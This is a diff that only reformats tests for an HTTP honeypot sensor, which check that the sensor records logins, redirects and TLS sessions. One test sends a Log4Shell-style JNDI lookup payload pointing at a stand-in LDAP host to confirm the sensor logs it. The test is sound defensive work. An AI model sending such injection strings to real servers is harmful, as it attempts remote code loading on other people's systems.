@@ -59,20 +59,35 @@ describe('the HTTP sensor', () => {
     const { sensor, recorder, url } = await opened();
 
     const index = await (await fetch(`${url}/`)).text();
-    const login = await post(`${url}/login`, { body: new URLSearchParams({ username: 'admin', password: 'x' }) });
+    const login = await post(`${url}/login`, {
+      body: new URLSearchParams({ username: 'admin', password: 'x' }),
+    });
     const failed = await (await fetch(`${url}/login?failed=1`)).text();
-    await sayHttp(sensor.port, 'GET /?a=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n\r\n', 50);
+    await sayHttp(
+      sensor.port,
+      'GET /?a=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n\r\n',
+      50,
+    );
     await sensor.close();
 
     expect(index).toContain('file exchange');
     expect([login.status, failed]).toEqual([302, expect.stringContaining('Wrong user name or password')]);
     expect(recorder.sessions).toHaveLength(1);
-    expect(recorder.acts('session.opened')).toMatchObject([{ protocol: 'http', local: { port: sensor.port } }]);
+    expect(recorder.acts('session.opened')).toMatchObject([
+      { protocol: 'http', local: { port: sensor.port } },
+    ]);
     expect(recorder.acts('http.request')).toMatchObject([
       { method: 'GET', target: '/', version: '1.1', status: 200 },
       { method: 'POST', target: '/login', body: 'username=admin&password=x', status: 302 },
       { method: 'GET', target: '/login?failed=1', status: 200 },
-      { target: '/?a=${jndi:ldap://192.0.2.1/a}', headers: [['Host', 'x'], ['X-A', '1']], status: 200 },
+      {
+        target: '/?a=${jndi:ldap://192.0.2.1/a}',
+        headers: [
+          ['Host', 'x'],
+          ['X-A', '1'],
+        ],
+        status: 200,
+      },
     ]);
     expect(recorder.acts('session.closed')).toMatchObject([{ reason: 'shutdown', commands: 4 }]);
   });
@@ -218,7 +233,14 @@ describe('its doors', () => {
     });
 
     const url = `https://127.0.0.1:${sensor.doors[0]?.port}/assets`;
-    const { stdout } = await run('curl', ['-sk', '-o', '/dev/null', '-w', '%{http_code} %{redirect_url}', url]);
+    const { stdout } = await run('curl', [
+      '-sk',
+      '-o',
+      '/dev/null',
+      '-w',
+      '%{http_code} %{redirect_url}',
+      url,
+    ]);
 
     expect(stdout).toBe(`301 ${url}/`);
     expect(recorder.acts('session.opened')[0]?.tls?.version).toBe('TLSv1.3');
